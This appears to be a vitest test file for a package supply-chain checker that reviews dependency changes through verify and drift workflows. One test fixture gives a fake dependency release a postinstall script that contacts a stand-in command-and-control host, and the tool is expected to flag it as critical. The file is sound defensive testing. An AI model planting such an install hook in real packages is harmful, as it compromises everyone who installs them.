import { describe, expect, it } from 'vitest';
import { exitCodeForReport } from '../../../src/core/report/report.js';
import { driftCheck } from '../../../src/workflows/drift.js';
import { reviewClosure } from '../../../src/workflows/gather/closure-review.js';
import { verifyServer } from '../../../src/workflows/verify.js';
import { libraryPackage } from '../../helpers/test-packages.js';
import { pinned, registry, serverFiles, serves } from './support.js';

const DAY = 86_400_000;

/** srv@1.0.0 depends on left-lib, pinned while left-lib 1.0.0 was the newest. */
async function setup() {
  const r = registry();
  const ago = (days: number) => new Date(r.fake.now.getTime() - days * DAY).toISOString();
  r.fake.publish(libraryPackage('left-lib', '1.0.0'), { published: ago(300) });
  r.fake.publish(serverFiles('srv', '1.0.0', { dependencies: { 'left-lib': '^1.0.0' } }), { server: serves() });
  await pinned(r, 'srv', '1.0.0');
  const lib = (version: string, days: number, pj: Record<string, unknown> = {}, code = '') => {
    const files = libraryPackage('left-lib', version);
    files['package.json'] = JSON.stringify({ ...JSON.parse(String(files['package.json'])), ...pj });
    if (code) files['index.js'] = `${String(files['index.js'])}${code}`;
    r.fake.publish(files, { published: ago(days) });
  };
  return { r, lib };
}

const closure = (findings: Array<{ code: string; severity: string; location?: { name?: string } }>) =>
  findings.filter((f) => f.location?.name === 'node_modules/left-lib').map((f) => [f.code, f.severity]);

describe('the closure review through verify and drift (fake ports)', () => {
  it('a clean patch out for a month is info: verify passes, and both tarballs were read', async () => {
    const { r, lib } = await setup();
    lib('1.0.1', 30);
    r.fake.calls.length = 0;
    const report = await verifyServer(r.fake.ports(), { spec: 'srv', failOn: 'high' });
    expect(closure(report.findings)).toEqual([['package/closure-version-changed', 'info']]);
    expect(r.fake.calls).toEqual(
      expect.arrayContaining(['tarballs fetch left-lib@1.0.0', 'tarballs fetch left-lib@1.0.1']),
    );
    expect(report.verdict).toBe('pass');
    expect(exitCodeForReport(report, 'high')).toBe(0);
  });

  it('a day-old patch that adds a postinstall script is critical and names the dependency (exit 1)', async () => {
    const { r, lib } = await setup();
    lib('1.0.1', 1, { scripts: { postinstall: "node -e \"require('https').get('https://c2.left-cdn.net/p')\"" } });
    const report = await verifyServer(r.fake.ports(), { spec: 'srv', failOn: 'high' });
    expect(closure(report.findings)).toEqual([['package/closure-dependency-hostile', 'critical']]);
    const f = report.findings.find((x) => x.code === 'package/closure-dependency-hostile')!;
    expect(f.subject).toBe('srv@1.0.0');
    expect(f.evidence).toMatchObject({ package: 'left-lib 1.0.0 -> 1.0.1', after: 'left-lib@1.0.1', ageDays: 1 });
    expect(exitCodeForReport(report, 'high')).toBe(1);
  });

  it('drift: a pin whose closure only got clean patch releases is not "review" because of them', async () => {
    const { r, lib } = await setup();
    lib('1.0.1', 10);
    lib('1.0.2', 9);
    const report = await driftCheck(r.fake.ports(), { concurrency: 1, failOn: 'high' });
    expect(closure(report.findings)).toEqual([['package/closure-version-changed', 'info']]);
    expect(report.subjects.map((s) => [s.name, s.verdict])).toEqual([['srv', 'pass']]);
  });

  it('other bytes served for the new dependency version are critical', async () => {
    const { r, lib } = await setup();
    lib('1.0.1', 30);
    r.fake.served.set('left-lib@1.0.1', Buffer.from('other bytes'));
    const report = await verifyServer(r.fake.ports(), { spec: 'srv', failOn: 'high' });
    expect(closure(report.findings)).toEqual([['package/closure-bytes-refused', 'critical']]);
  });

  it('reviews at most the cap, in path order, the same way every time; one package at two paths is read once', async () => {
    const { r } = await setup();
    for (const n of ['a', 'b', 'c']) r.fake.publish(libraryPackage(`dep-${n}`, '1.0.0'));
    const node = (name: string) => ({
      name,
      version: '1.0.0',
      integrity: r.fake.packument(name).versions['1.0.0']!.dist.integrity!,
    });
    const before = { formatVersion: 1 as const, root: { name: 'srv', version: '1.0.0' }, packages: {} };
    const after = {
      ...before,
      packages: {
        'node_modules/dep-c': node('dep-c'),
        'node_modules/dep-a': node('dep-a'),
        'node_modules/x/node_modules/dep-a': node('dep-a'),
        'node_modules/dep-b': node('dep-b'),
      },
    };
    r.fake.calls.length = 0;
    const ports = r.fake.ports();
    const review = await reviewClosure(ports, before, after, { cap: 3 });
    expect(review.judgements.map((j) => [j.path, j.outcome])).toEqual([
      ['node_modules/dep-a', 'clean'],
      ['node_modules/dep-b', 'clean'],
      ['node_modules/dep-c', 'clean'],
    ]);
    expect(review.capped).toEqual(['node_modules/x/node_modules/dep-a']);
    expect(r.fake.calls.filter((c) => c.startsWith('tarballs fetch')).sort()).toEqual([
      'tarballs fetch dep-a@1.0.0',
      'tarballs fetch dep-b@1.0.0',
      'tarballs fetch dep-c@1.0.0',
    ]);
    const whole = await reviewClosure(ports, before, after);
    expect(whole.capped).toEqual([]);
    expect(r.fake.calls.filter((c) => c === 'tarballs fetch dep-a@1.0.0')).toHaveLength(2);
    expect(await reviewClosure(ports, before, after)).toEqual(whole);
  });
});
